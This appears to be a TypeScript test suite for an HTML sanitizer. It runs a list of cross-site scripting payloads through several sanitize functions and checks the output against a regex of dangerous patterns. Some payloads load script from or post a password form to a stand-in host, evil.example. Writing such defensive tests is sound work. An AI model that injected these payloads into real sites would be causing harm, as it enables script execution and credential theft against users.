import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bodyParts } from './parts';
import {
  plainText,
  resolveUrl,
  sanitizeArticle,
  sanitizeComment,
  sanitizeInline,
  sanitizePart,
} from './sanitize';

const media = {
  image: (src: string, alt: string) => ({ src: src.startsWith('javascript') ? '/' : src, alt }),
  file: (src: string) => src,
};
const parts = (html: string) => bodyParts(html, media);

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:1)" onclick="x()">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<details open ontoggle=alert(1)>x</details>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<ul><li><a href="vbscript:x">x</a></li></ul>',
];
const DANGEROUS =
  /<(script|style|form|input|iframe|object|embed|svg|math|base|meta|link|template)\b|\son\w+\s*=|(?:javascript|vbscript|data):/i;

describe('incoming HTML', () => {
  it.each(VECTORS)('is disarmed: %s', (vector) => {
    for (const html of [
      vector,
      `<p>${vector}</p>`,
      `<blockquote>${vector}</blockquote>`,
      `<table><tr><td>${vector}</td></tr></table>`,
    ]) {
      const strings = parts(html).flatMap((part) =>
        Object.values(part).filter((value) => typeof value === 'string'),
      );
      for (const text of strings) expect(text).not.toMatch(DANGEROUS);
    }
    expect(sanitizeComment(vector)).not.toMatch(DANGEROUS);
    expect(sanitizeInline(vector)).not.toMatch(DANGEROUS);
  });

  it('is disarmed in any combination', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS, '<p>', '</p>', '<li>', '<td>', '"', "'", '<!--', '-->', '&lt;'),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        for (const part of parts(pieces.join('')))
          if ('html' in part)
            expect(part.html).not.toMatch(
              /<(script|style|iframe|object|embed|form)\b|<[^>]*\son\w+\s*=|<[^>]*(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data):/i,
            );
      }),
    );
  });

  it("keeps its anchors, separate from the page's own ids", () => {
    expect(sanitizeArticle('<a href="#n1">1</a><p id="n1">nota</p>')).toBe(
      '<a href="#text-n1">1</a><p id="text-n1">nota</p>',
    );
  });

  it('has no heading of a table without words', () => {
    expect(
      sanitizeArticle(
        '<table><tr><th scope="col"> </th><th>Cost</th><th><img src="/a.png"></th></tr></table>',
      ),
    ).toContain('<td> </td><th>Cost</th><th><img');
  });

  it.each([sanitizeArticle, sanitizePart, sanitizeInline, sanitizeComment])(
    'has no bracket within an attribute, as sanitised by %o',
    (sanitize) => {
      const safe = 'a <abbr title="1 &lt; 2 &gt; &amp;lt; &quot;&nbsp;">b</abbr>';
      expect(sanitize("a <abbr title='1 < 2 > &amp;lt; \"&nbsp;'>b</abbr>")).toBe(safe);
      expect(sanitize(safe)).toBe(safe);
    },
  );

  it('marks links of readers as user-generated', () => {
    expect(sanitizeComment('<a href="https://x.example/">x</a>')).toBe(
      '<a rel="ugc nofollow" href="https://x.example/">x</a>',
    );
  });
});

describe('plain words', () => {
  it.each([
    ['<p>Un</p><p>dos</p>', 'Un dos'],
    ['L&rsquo;aigua &amp; el vi', 'L’aigua & el vi'],
    ['a &lt;b&gt; c', 'a <b> c'],
    ['<script>x</script>text', 'text'],
    ['  molts\n\n espais&nbsp;junts ', 'molts espais junts'],
  ])('plain words of %j are %j', (html, words) => {
    expect(plainText(html)).toBe(words);
  });
});

describe('a URL in a text', () => {
  it.each([
    ['/a.png', 'https://x.example/b/c', 'https://x.example/a.png'],
    ['../a.png', 'https://x.example/b/c/d', 'https://x.example/b/a.png'],
    ['//cdn.example/a', 'https://x.example/', 'https://cdn.example/a'],
    ['https://y.example/a', 'https://x.example/', 'https://y.example/a'],
    ['javascript:1', 'https://x.example/', null],
  ])('%s on %s is %s', (url, base, resolved) => {
    expect(resolveUrl(url, base)).toBe(resolved);
  });
});

it.each([
  ['Tí\u001b[31mtol', 'Tí[31mtol'],
  ['a &#27;&#x9b;&#x202e;b', 'a ›b'],
  ['una\fparaula\u0085més', 'una paraula més'],
  ['\u2067שלום\u2069\u200f \ud800', '\u2067שלום\u2069\u200f \ufffd'],
])('%s has no control characters and no overrides of direction', (html, words) => {
  expect(plainText(html)).toBe(words);
  expect(sanitizeInline(html)).toBe(words);
});

it('a text without markup has the limits of one with it', () => {
  const long = 'a'.repeat(9_000_000);
  expect(plainText(long)).toBe('');
  expect(sanitizeInline(long)).toBe('');
});
